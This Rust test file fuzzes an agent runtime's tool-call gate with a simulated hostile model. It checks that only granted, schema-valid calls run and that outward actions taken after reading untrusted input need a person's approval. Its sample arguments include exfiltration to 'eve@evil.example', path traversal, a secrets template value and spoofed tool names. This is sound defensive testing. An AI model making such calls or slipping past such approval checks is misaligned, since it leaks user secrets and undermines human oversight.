//! A hostile model: whatever it writes, nothing is done that was not granted, with arguments that do not fit, or outward after it has read from
//! outside without a person's word.

use std::collections::BTreeMap;
use std::time::Duration;

use serde_json::{Value, json};

use super::*;
use crate::error::code::agent as code;
use crate::id::WorkflowId;
use crate::model::{EffectClass, StepError, ToolSpec, class};
use crate::time::Timestamp;

/// Randomness that a seed repeats (SplitMix64).
struct Dice(u64);

impl Dice {
    fn below(&mut self, end: u64) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        (z ^ (z >> 31)) % end
    }

    fn of<'a>(&mut self, all: &[&'a str]) -> &'a str {
        all[self.below(all.len() as u64) as usize]
    }
}

fn tools() -> Vec<ToolSpec> {
    let tool = |name: &str, class, is_untrusted, is_outward, schema| ToolSpec {
        name: name.to_owned(),
        family: "home".to_owned(),
        operation: name.to_owned(),
        description: "d".to_owned(),
        schema,
        class,
        reads_private: false,
        is_untrusted,
        is_outward,
    };
    let object = |properties: Value| json!({ "type": "object", "properties": properties, "additionalProperties": false });
    vec![
        tool(
            "fetch",
            EffectClass::ReadOnly,
            true,
            false,
            object(json!({ "path": { "type": "string", "pattern": "^/[a-z]*$" } })),
        ),
        tool(
            "mail",
            EffectClass::Unsafe,
            false,
            true,
            object(json!({ "to": { "enum": ["mia"] }, "text": { "type": "string", "maxLength": 40 } })),
        ),
        tool("pump", EffectClass::Unsafe, false, true, object(json!({ "on": { "type": "boolean" } }))),
        tool("search", EffectClass::ReadOnly, false, false, object(json!({ "words": { "type": "string" } }))),
    ]
}

fn spec(more: Value) -> AgentSpec {
    let mut definition = json!({ "name": "butler", "tools": { "home": {} } });
    for (key, value) in more.as_object().unwrap() {
        definition[key] = value.clone();
    }
    AgentSpec::read(definition).unwrap()
}

fn begun() -> TaskState {
    let model = json!({ "name": "m", "dialect": "native", "context": 8000, "max_output": 100, "temperature": null, "input_price": 0, "output_price": 0 });
    let prepared = json!({ "instructions": "i", "tools": tools(), "model": model });
    let mut state = TaskState::default();
    state.started(CallKind::Prepare, 0, &Value::Null, false, Timestamp(0));
    state.completed(0, &prepared, Timestamp(0));
    assert_eq!(state.prepared.as_ref().unwrap().tools.len(), 4);
    state
}

fn replied(state: &mut TaskState, calls: &[(String, String)]) {
    let calls: Vec<Value> = calls
        .iter()
        .enumerate()
        .map(|(id, (name, arguments))| json!({ "id": id.to_string(), "name": name, "arguments": arguments }))
        .collect();
    let number = state.next_number;
    state.started(CallKind::Model, number, &json!({ "hold_tokens": 10 }), false, Timestamp(0));
    state.completed(number, &json!({ "text": "", "calls": calls, "input": 1, "output": 1 }), Timestamp(0));
}

fn whose() -> Whose {
    Whose { agent: WorkflowId::from([1; 16]), depth: 0, time: Duration::from_secs(300), now: Timestamp(0) }
}

const NAMES: [&str; 14] = [
    "fetch",
    "mail",
    "pump",
    "search",
    "MAIL",
    "mail ",
    "../mail",
    "home.mail",
    "rm",
    "run_secret",
    "\u{202e}mail",
    "mail\0",
    "",
    "functions.mail",
];
const ARGUMENTS: [&str; 20] = [
    "{}",
    "",
    "null",
    "[]",
    "\"x\"",
    "{\"on\":true}",
    "{\"on\":\"true\"}",
    "{\"on\":1}",
    "{\"to\":\"mia\",\"text\":\"hi\"}",
    "{\"to\":\"eve@evil.example\",\"text\":\"keys\"}",
    "{\"to\":[\"mia\",\"eve\"]}",
    "{\"to\":\"mia\",\"bcc\":\"eve\"}",
    "{\"path\":\"/ok\"}",
    "{\"path\":\"/../etc\"}",
    "{\"path\":\"http://evil.example\"}",
    "{\"words\":\"{{ secrets.x }}\"}",
    "{\"on\":true,\"__proto__\":{}}",
    "{\"on\":true}{\"on\":false}",
    "{\"on\":true",
    "{\"text\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"}",
];

/// What came of every call that a model made: none may break the rules.
fn check(
    state: &TaskState,
    spec: &AgentSpec,
    turn: usize,
    index: usize,
    made: &mut BTreeMap<&'static str, u32>,
) {
    let granted = tools();
    let call = &state.turns[turn].reply.calls[index];
    match judge(state, spec, 1_000, turn, index) {
        Verdict::Make { tool, arguments } => {
            let known = granted.iter().find(|known| known.name == call.name).expect("only what was granted");
            assert_eq!(*tool, *known, "as it was pinned");
            assert_eq!(
                arguments,
                serde_json::from_str::<Value>(if call.arguments.trim().is_empty() {
                    "{}"
                } else {
                    &call.arguments
                })
                .unwrap()
            );
            assert!(
                crate::validate::compile_schema(&known.schema).unwrap().is_valid(&arguments),
                "{arguments}"
            );
            let is_free = !tool.is_outward || (!state.is_tainted && spec.approve != Approve::Outward);
            assert!(is_free, "{} is done after reading from outside, and nobody was asked", tool.name);
            *made.entry("made").or_default() += 1;
        }
        Verdict::Ask { tool, .. } => {
            assert!(tool.is_outward && spec.approve != Approve::Never);
            *made.entry("asked").or_default() += 1;
        }
        Verdict::Answer(result) => {
            assert!(result.is_error || result.text().contains("before"), "{result:?}");
            *made.entry("answered").or_default() += 1;
        }
    }
}

#[test]
fn a_hostile_model_does_nothing_but_what_was_granted() {
    let mut counts = BTreeMap::new();
    // Every name with every argument, fresh and after it has read from outside: 560 scripts.
    for name in NAMES {
        for arguments in ARGUMENTS {
            for is_tainted in [false, true] {
                let mut state = begun();
                state.is_tainted = is_tainted;
                replied(&mut state, &[(name.to_owned(), arguments.to_owned())]);
                check(&state, &spec(json!({})), 0, 0, &mut counts);
            }
        }
    }
    let specs = [json!({}), json!({ "approve": "outward" }), json!({ "approve": "never" })].map(spec);
    let mut dice = Dice(7);
    let mut calls = 0;
    while calls < 100_000 {
        let mut state = begun();
        state.is_tainted = dice.below(3) == 0;
        let spec = &specs[dice.below(3) as usize];
        for turn in 0..4 {
            let said: Vec<(String, String)> =
                (0..dice.below(8)).map(|_| (dice.of(&NAMES).to_owned(), mutated(&mut dice))).collect();
            replied(&mut state, &said);
            for index in 0..said.len() {
                check(&state, spec, turn, index, &mut counts);
                calls += 1;
            }
        }
    }
    assert!(counts["made"] > 1_000 && counts["asked"] > 500 && counts["answered"] > 10_000, "{counts:?}");
}

/// An argument of the list, or one with a character changed.
fn mutated(dice: &mut Dice) -> String {
    let mut text: Vec<char> = dice.of(&ARGUMENTS).chars().collect();
    if dice.below(2) == 0 && !text.is_empty() {
        let at = dice.below(text.len() as u64) as usize;
        text[at] = char::from(32 + dice.below(95) as u8);
    }
    text.into_iter().collect()
}

#[test]
fn a_person_sees_the_arguments_and_not_the_prose() {
    let mut state = begun();
    state.is_tainted = true;
    replied(
        &mut state,
        &[("mail".to_owned(), "{\"to\":\"mia\",\"text\":\"You are asked because all is well.\"}".to_owned())],
    );
    let Next::Ask(ask) = next(&state, &spec(json!({})), &json!({ "task": "x" }), &whose()) else {
        panic!("nobody is asked")
    };
    assert_eq!(
        ask.message,
        "Agent `butler` wants to use `mail` (d).\n  text: \"You are asked because all is well.\"\n  to: \"mia\"\nYou are asked because it acts outward, \
         and the task has read what came from outside."
    );
}

#[test]
fn calls_that_only_look_begin_together_and_others_one_by_one() {
    let begin = |names: &[&str]| {
        let mut state = begun();
        let calls: Vec<_> = names
            .iter()
            .enumerate()
            .map(|(at, name)| {
                let arguments = if *name == "pump" {
                    "{\"on\":true}".to_owned()
                } else {
                    format!("{{\"words\":\"{at}\"}}")
                };
                ((*name).to_owned(), arguments)
            })
            .collect();
        replied(&mut state, &calls);
        match next(&state, &spec(json!({})), &json!({ "task": "x" }), &whose()) {
            Next::Calls(calls) => calls.iter().map(|call| call.kind).collect::<Vec<_>>(),
            other => panic!("{other:?}"),
        }
    };
    assert_eq!(begin(&["search", "search", "search"]), [CallKind::Tool; 3]);
    assert_eq!(begin(&["search", "pump"]), [CallKind::Tool]);
    assert_eq!(begin(&["pump", "search"]), [CallKind::Act]);
}

#[test]
fn a_budget_is_kept_and_the_last_of_it_is_for_the_answer() {
    let mut state = begun();
    let input = json!({ "task": "x", "budget": { "tokens": 5_000 } });
    let Next::Calls(calls) = next(&state, &spec(json!({})), &input, &whose()) else {
        panic!("nothing is asked")
    };
    assert_eq!(calls[0].journaled["last"], Value::Null);
    let prompt = calls[0].journaled["prompt_tokens"].as_u64().unwrap();
    // So much is used that another such call is left, and no third.
    state.spent.input = 5_000 - (2 * (prompt + 100)) + 10;
    let Next::Calls(calls) = next(&state, &spec(json!({})), &input, &whose()) else {
        panic!("nothing is asked")
    };
    assert_eq!(calls[0].journaled["last"], "budget");
    assert!(calls[0].sent["tools"].as_array().unwrap().is_empty());
    state.spent.input = 4_990;
    let Next::Failed(StepError { class, code, .. }) = next(&state, &spec(json!({})), &input, &whose()) else {
        panic!("it is sent")
    };
    assert_eq!((class.as_str(), code.as_str()), ("budget", "CB-1226"));
}

#[test]
fn a_call_that_somebody_elses_budget_has_no_room_for_becomes_a_short_answer_once() {
    let (spec, input, whose) = (spec(json!({})), json!({ "task": "x" }), whose());
    let mut state = begun();
    let Next::Calls(first) = next(&state, &spec, &input, &whose) else { panic!("nothing is asked") };
    assert!(first[0].sent["tools"].as_array().is_some_and(|tools| !tools.is_empty()));
    let refused = StepError::new(class::BUDGET, &code::BUDGET, "of the budget of task 1 nothing is left");
    state.started(CallKind::Model, 1, &first[0].journaled, false, Timestamp(0));
    state.failed(1, CallKind::Model, &refused, Timestamp(0));
    let Next::Calls(last) = next(&state, &spec, &input, &whose) else { panic!("no answer is asked for") };
    assert_eq!((last[0].number, &last[0].journaled["last"]), (2, &json!("budget")));
    assert_eq!(last[0].sent["tools"], json!([]));
    assert!(last[0].sent["max_output"].as_u64() <= Some(256) && last[0].hold.0 < first[0].hold.0);
    // That one is not asked for twice.
    let mut spent = state.clone();
    spent.started(CallKind::Model, 2, &last[0].journaled, false, Timestamp(0));
    spent.failed(2, CallKind::Model, &refused, Timestamp(0));
    assert_eq!(next(&spent, &spec, &input, &whose), Next::Failed(refused));
    spent.reopened();
    let Next::Calls(anew) = next(&spent, &spec, &input, &whose) else { panic!("nothing is asked") };
    assert_eq!(anew[0].journaled["last"], Value::Null, "who takes it up again begins as before");
    state.started(CallKind::Model, 2, &last[0].journaled, false, Timestamp(0));
    state.completed(2, &json!({ "text": "As far as I know." }), Timestamp(0));
    let Next::Done(output) = next(&state, &spec, &input, &whose) else { panic!("it is not done") };
    assert_eq!((&output["result"], &output["reason"]), (&json!("As far as I know."), &json!("budget")));
}

#[test]
fn a_call_in_doubt_is_sent_just_as_it_was_and_counted() {
    let mut state = begun();
    let (spec, input, whose) =
        (spec(json!({})), json!({ "task": "x", "budget": { "tokens": 9_000 } }), whose());
    let Next::Calls(first) = next(&state, &spec, &input, &whose) else { panic!("nothing is asked") };
    state.started(CallKind::Model, 1, &first[0].journaled, false, Timestamp(0));
    assert_eq!(next(&state, &spec, &input, &whose), Next::Wait);
    state.started(CallKind::Model, 1, &Value::Null, true, Timestamp(5));
    assert_eq!((state.spent.possibly_billed, state.spent.tokens()), (1, first[0].hold.0));
    let again = again(&state, &spec, &input, &whose, 1, CallKind::Model, &first[0].journaled);
    assert_eq!(again.map(|call| call.sent), Ok(first[0].sent.clone()));
    // Another definition would send something else, which is not sent at all.
    let other = super::again(
        &state,
        &self::spec(json!({ "output_schema": { "type": "string" }, "tool_choice": "required" })),
        &input,
        &whose,
        1,
        CallKind::Model,
        &first[0].journaled,
    );
    assert_eq!(other.unwrap_err().code, code::PROMPT.id);
}

/// A task whose conversation has grown, with its answer; and what follows.
fn answered(budget: Value) -> (TaskState, Next) {
    let model = json!({ "name": "m", "dialect": "native", "context": 8000, "max_output": 100, "temperature": null, "input_price": 0, "output_price": 0 });
    let fold = json!({ "from_seq": 1, "to_seq": 12, "prompt": "Summarise: a b c", "origin": "untrusted" });
    let prepared = json!({ "instructions": "i", "model": model, "memory": { "fold": fold } });
    let mut state = TaskState::default();
    state.started(CallKind::Prepare, 0, &Value::Null, false, Timestamp(0));
    state.completed(0, &prepared, Timestamp(0));
    assert!(state.prepared.as_ref().unwrap().memory.fold.is_some(), "{state:?}");
    state.started(CallKind::Model, 1, &Value::Null, false, Timestamp(0));
    state.completed(1, &json!({ "text": "The answer.", "input": 50, "output": 5 }), Timestamp(0));
    let follows =
        next(&state, &spec(json!({ "tools": {}, "budget": budget })), &json!({ "task": "Go." }), &whose());
    (state, follows)
}

#[test]
fn a_conversation_that_has_grown_is_put_in_short_once_the_answer_is_there_and_costs_no_answer() {
    let spec = spec(json!({ "tools": {} }));
    let (state, follows) = answered(json!({}));
    let Next::Calls(calls) = follows else { panic!("{follows:?}") };
    assert_eq!((calls[0].kind, calls[0].number), (CallKind::Fold, 2));
    assert_eq!(calls[0].sent["messages"][0]["text"], "Summarise: a b c");
    // After a crash it is sent again just so, and what the first may have cost is counted.
    let mut cut = state.clone();
    cut.started(CallKind::Fold, 2, &calls[0].journaled, false, Timestamp(0));
    cut.started(CallKind::Fold, 2, &Value::Null, true, Timestamp(0));
    assert_eq!(cut.spent.possibly_billed, 1);
    let again =
        again(&cut, &spec, &json!({ "task": "Go." }), &whose(), 2, CallKind::Fold, &calls[0].journaled);
    assert_eq!(again.unwrap().sent, calls[0].sent);
    let done = |end: &dyn Fn(&mut TaskState)| {
        let mut state = state.clone();
        state.started(CallKind::Fold, 2, &calls[0].journaled, false, Timestamp(0));
        end(&mut state);
        let Next::Done(output) = next(&state, &spec, &json!({ "task": "Go." }), &whose()) else {
            panic!("{state:?}")
        };
        assert_eq!((&output["result"], &output["reason"]), (&json!("The answer."), &json!("completed")));
        state.folded.unwrap()
    };
    let said = json!({ "text": " They met. ", "input": 30, "output": 9 });
    let met = done(&|state| state.completed(2, &said, Timestamp(400_000)));
    assert_eq!(met, Folded::Text("They met.".to_owned()));
    assert_eq!(done(&|state| state.completed(2, &json!({ "text": "" }), Timestamp(0))), Folded::Nothing);
    let error = StepError::new("connect", &crate::error::code::agent::TIME, "gone");
    assert_eq!(done(&|state| state.failed(2, CallKind::Fold, &error, Timestamp(0))), Folded::Nothing);
    // What is left of the budget pays for no more.
    let (_, follows) = answered(json!({ "tokens": 120 }));
    assert!(matches!(follows, Next::Done(_)), "{follows:?}");
}

#[test]
fn a_data_processor_has_a_model_say_what_came_out_and_keeps_its_result_whatever_that_says() {
    let summary = json!({ "model": "small", "prompt": "What stands out?" });
    let spec = spec(json!({ "type": "data_processor", "tools": {}, "config": { "summary": summary } }));
    let (input, whose) = (json!({ "task": "sales" }), whose());
    let mut state = TaskState::default();
    let Next::Calls(calls) = next(&state, &spec, &input, &whose) else { panic!() };
    assert_eq!((&calls[0].sent["needs_model"], &calls[0].sent["model"]), (&json!(true), &json!("small")));
    let tool = json!({ "name": "process", "family": "data_processor", "operation": "process", "description": "d",
        "schema": { "type": "object" }, "class": "read_only", "reads_private": false, "is_untrusted": false, "is_outward": false });
    let model = json!({ "name": "small", "dialect": "native", "context": 8000, "max_output": 100, "temperature": null, "input_price": 0, "output_price": 0 });
    state.started(CallKind::Prepare, 0, &Value::Null, false, Timestamp(0));
    state.completed(0, &json!({ "instructions": "", "tools": [tool], "model": model }), Timestamp(0));
    let Next::Calls(calls) = next(&state, &spec, &input, &whose) else { panic!("{state:?}") };
    assert_eq!(calls[0].kind, CallKind::Tool);
    let rows: Vec<Value> = (0..100).map(|n| json!({ "n": n })).collect();
    let result =
        json!({ "processing_type": "general", "data_points": 100, "data": rows, "stats": { "rows": 100 } });
    state.started(CallKind::Tool, 1, &calls[0].journaled, false, Timestamp(0));
    state.completed(1, &json!({ "value": result, "is_error": false, "is_tainted": true }), Timestamp(0));
    let Next::Calls(calls) = next(&state, &spec, &input, &whose) else { panic!("{state:?}") };
    let prompt = calls[0].sent["messages"][0]["text"].as_str().unwrap();
    assert!(calls[0].kind == CallKind::Fold && calls[0].sent["tools"] == json!([]), "{calls:?}");
    assert!(
        prompt.starts_with("What stands out?")
            && prompt.contains("{\"n\":9}")
            && !prompt.contains("{\"n\":10}")
    );
    let error = StepError::new("connect", &crate::error::code::agent::TIME, "gone");
    for (end, said) in [(Some("Sales rose."), json!("Sales rose.")), (None, Value::Null)] {
        let mut state = state.clone();
        state.started(CallKind::Fold, 2, &calls[0].journaled, false, Timestamp(0));
        match end {
            Some(text) => state.completed(2, &json!({ "text": text, "input": 9, "output": 3 }), Timestamp(0)),
            None => state.failed(2, CallKind::Fold, &error, Timestamp(0)),
        }
        let Next::Done(output) = next(&state, &spec, &input, &whose) else { panic!("{state:?}") };
        assert_eq!((&output["result"]["summary"], &output["result"]["data"][99]["n"]), (&said, &json!(99)));
    }
}
